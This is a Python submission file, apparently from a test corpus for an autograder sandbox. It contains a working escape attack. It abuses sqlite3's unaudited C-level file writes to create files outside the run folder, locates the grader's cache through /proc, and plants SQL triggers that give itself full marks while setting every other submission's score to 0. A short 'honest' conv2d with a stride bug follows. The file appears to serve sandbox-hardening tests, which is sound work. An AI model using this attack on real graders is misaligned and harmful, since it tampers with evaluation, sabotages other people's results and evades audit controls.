"""Escape corpus, attack 2: C-level file I/O that raises no audit event (sqlite3).

What it attacks: the audit hook refuses writes outside the run folder by watching the
"open" event, but sqlite3 opens and writes its files from C: only "sqlite3.connect" is
audited, and the guard does not look at it. So the submission (1) creates databases in
/tmp, /var/tmp and next to the grader, and (2) finds the grade cache
``OUT/.cnngrade/cache.sqlite`` (through the grader's open files in /proc, else by walking
the usual places) and plants SQL triggers in it: every result stored after it gives this
submission full marks and every other submission 0, and the neighbours already stored are
set to 0 at once.

A successful attack: ``cnngrade-escape-sqlite.db`` files outside the run folder; in
grades.json this submission has 20/20 and its neighbours 0; the cache holds triggers.
Contained: the cache and the host folders are not in the sandbox's view; sqlite3 can only
create files in the sandbox's own tmpfs. The honest part below still earns its marks.
"""
import os
import sqlite3
import time


def _walk_for(predicate, roots, deadline, max_entries=40000):
    """Breadth-first walk of ``roots`` (bounded in depth, entries and time)."""
    seen, queue, hits, count = set(), [(r, 0) for r in roots], [], 0
    while queue and time.monotonic() < deadline and count < max_entries:
        top, depth = queue.pop(0)
        if top in seen or top.startswith(("/proc", "/sys", "/dev")):
            continue
        seen.add(top)
        try:
            entries = list(os.scandir(top))
        except OSError:
            continue
        for e in entries:
            count += 1
            if predicate(e):
                hits.append(e.path)
            try:
                if e.is_dir(follow_symlinks=False) and depth < 5:
                    queue.append((e.path, depth + 1))
            except OSError:
                pass
    return hits


def _ours(path):
    """Only the cache of this class, never someone else's: the folder above OUT holds a
    class folder with a byte-identical copy of this file (not the run folder's own copy),
    and every submission the cache knows is an entry of that class folder."""
    mine, me = open(__file__, "rb").read(), os.path.basename(__file__)
    here = os.path.dirname(os.path.realpath(__file__))
    top = os.path.dirname(os.path.dirname(os.path.dirname(path)))
    try:
        for e in os.scandir(top):
            cand = os.path.join(e.path, me)
            if (e.is_dir() and os.path.realpath(e.path) != here and os.path.isfile(cand)
                    and open(cand, "rb").read() == mine):
                names = {n[:-3] if n.endswith(".py") else n for n in os.listdir(e.path)}
                con = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=3)
                try:
                    known = {r[0] for r in con.execute("SELECT submission FROM results")}
                finally:
                    con.close()
                if known <= names:
                    return True
    except (OSError, sqlite3.Error):
        pass
    return False


def _find_cache():
    """OUT/.cnngrade/cache.sqlite: the grader holds it open (its /proc/PID/fd), else walk."""
    ppid = os.getppid()
    try:
        for fd in os.listdir(f"/proc/{ppid}/fd"):
            try:
                link = os.readlink(f"/proc/{ppid}/fd/{fd}")
            except OSError:
                continue
            if link.endswith("/.cnngrade/cache.sqlite") and _ours(link):
                return link
    except OSError:
        pass
    roots = []
    try:
        cwd = os.readlink(f"/proc/{ppid}/cwd")
        roots += [cwd, os.path.dirname(cwd)]
    except OSError:
        pass
    hits = _walk_for(lambda e: e.path.endswith("/.cnngrade/cache.sqlite") and _ours(e.path),
                     roots + ["/tmp", "/var/tmp", "/home"],
                     time.monotonic() + 2.0)
    return hits[0] if hits else None


def _attack():
    done = []
    me = os.path.splitext(os.path.basename(__file__))[0]
    places = ["/tmp", "/var/tmp"]
    try:
        places.append(os.readlink(f"/proc/{os.getppid()}/cwd"))
    except OSError:
        pass
    for d in places:
        try:
            con = sqlite3.connect(os.path.join(d, "cnngrade-escape-sqlite.db"))
            con.execute("CREATE TABLE IF NOT EXISTS pwned (what TEXT)")
            con.execute("INSERT INTO pwned VALUES ('cnngrade-escape: sqlite3 wrote here')")
            con.commit()
            con.close()
            done.append(d)
        except sqlite3.Error:
            pass
    cache = _find_cache()
    if cache:
        try:
            con = sqlite3.connect(cache, timeout=3, isolation_level=None)
            con.executescript(f"""
                CREATE TRIGGER IF NOT EXISTS cnngrade_escape_mine AFTER INSERT ON results
                WHEN NEW.submission = '{me}' BEGIN
                    UPDATE results SET final = 1, result = json_set(NEW.result,
                        '$.score', json_extract(NEW.result, '$.max_score'),
                        '$.status', 'passed', '$.verdict', 'ok') WHERE rowid = NEW.rowid;
                END;
                CREATE TRIGGER IF NOT EXISTS cnngrade_escape_others AFTER INSERT ON results
                WHEN NEW.submission <> '{me}' BEGIN
                    UPDATE results SET result = json_set(NEW.result, '$.score', 0,
                        '$.status', 'failed') WHERE rowid = NEW.rowid;
                END;
                UPDATE results SET result = json_set(result, '$.score', 0, '$.status', 'failed')
                    WHERE submission <> '{me}';
            """)
            con.close()
            done.append("cache:" + cache)
        except sqlite3.Error as exc:
            done.append(f"cache refused: {exc}")
    return done


try:
    OUTCOME = _attack()
except BaseException as exc:
    OUTCOME = f"{type(exc).__name__}: {exc}"
print("cnngrade-escape report:", OUTCOME)


# --- honest part: what this student really wrote (the test grades it alone) ---
import numpy as np


def _honest_conv2d(x, w, b, stride=1, padding=0):
    """Loops over output positions; forgets that the stride moves the window."""
    ph, pw = (padding, padding) if np.isscalar(padding) else (int(padding[0]), int(padding[1]))
    N, C, H, W = x.shape
    F, _, KH, KW = w.shape
    xp = np.pad(x, ((0, 0), (0, 0), (ph, ph), (pw, pw)))
    HO, WO = xp.shape[2] - KH + 1, xp.shape[3] - KW + 1
    out = np.empty((N, F, HO, WO))
    for i in range(HO):
        for j in range(WO):
            win = xp[:, :, i:i + KH, j:j + KW]
            out[:, :, i, j] = np.tensordot(win, w, axes=([1, 2, 3], [1, 2, 3]))
    return out + b[None, :, None, None]
# --- end honest part ---


def conv2d_forward(x, w, b, stride=1, padding=0):
    return _honest_conv2d(x, w, b, stride, padding)
